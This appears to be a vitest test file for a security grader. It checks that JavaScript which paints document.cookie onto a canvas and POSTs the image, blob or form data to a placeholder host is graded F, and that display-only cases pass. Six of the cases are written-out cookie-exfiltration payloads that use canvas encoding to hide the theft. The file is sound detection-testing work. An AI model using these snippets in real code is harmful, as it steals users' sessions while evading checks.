import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
const CANVAS = "const c = document.createElement('canvas'); const pen = c.getContext('2d');";
const BITS =
  "const bits = (t) => [...new TextEncoder().encode(t)].flatMap((b) => [...b.toString(2)].map(Number)); const code = (to, t) => { const pen = to.getContext('2d'); bits(t).forEach((b, n) => { if (b) pen.fillRect(n, 0, 1, 1); }); };";
const gradeOf = (content: string): Promise<string> => graded({ content: `${SEND} ${CANVAS} ${BITS} ${content}` });

/* A picture shows what it was painted of, however that was taken apart. */
it.each([
  ['pen.fillText(document.cookie, 0, 0); send(c.toDataURL());'],
  ['pen.fillText(document.cookie, 0, 0); c.toBlob((blob) => send(blob));'],
  ["pen.fillText(document.cookie, 0, 0); c.toBlob((b) => { const f = new FormData(); f.append('i', b); send(f); });"],
  ["pen.fillStyle = 'rgb(' + document.cookie.charCodeAt(1) + ',0,0)'; pen.fillRect(0, 0, 1, 1); send(c.toDataURL());"],
  ['code(c, document.cookie); send(c.toDataURL());'],
  [
    'const maker = { toDataURL(t) { return bits(t).map((b) => (b ? "#" : " ")).join(""); } }; send(maker.toDataURL(document.cookie));',
  ],
])('sends what is painted: %s', async (content) => {
  expect(await gradeOf(content)).toBe('F');
});

it.each([
  ['pen.fillText(document.cookie, 0, 0); document.body.append(c);'],
  ["pen.fillText(document.cookie, 0, 0); const d = document.createElement('canvas'); d.toBlob((blob) => send(blob));"],
  ["code(c, 'hello'); send(c.toDataURL());"],
  ['code(c, document.cookie); document.body.append(c);'],
])('takes nothing of what is only shown: %s', async (content) => {
  expect(await gradeOf(content)).not.toBe('F');
});
